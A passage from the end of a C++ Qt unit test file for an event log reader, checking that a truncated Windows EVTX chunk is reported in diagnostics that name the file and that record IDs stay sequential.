        // Never silent: the truncation is named, with the file.
        QVERIFY(!r.diagnostics.empty());
        for (const auto& d : r.diagnostics)
            QCOMPARE(d.file, file);
        if (!error) {
            const bool named = std::any_of(r.diagnostics.begin(), r.diagnostics.end(), [](const Diagnostic& d) {
                return d.code == "evtx-truncated-chunk" && d.message.find("chunk 0: the file ends") == 0;
            });
            QVERIFY2(named, qPrintable(diagnosticsText(r)));
        }
        for (size_t i = 0; i < r.events.size(); ++i)
            QCOMPARE(r.events[i].origin.recordId, std::optional<std::uint64_t>(435110 + i));
    }
};

QTEST_GUILESS_MAIN(TestEventReaders)
#include "tst_eventreaders.moc"
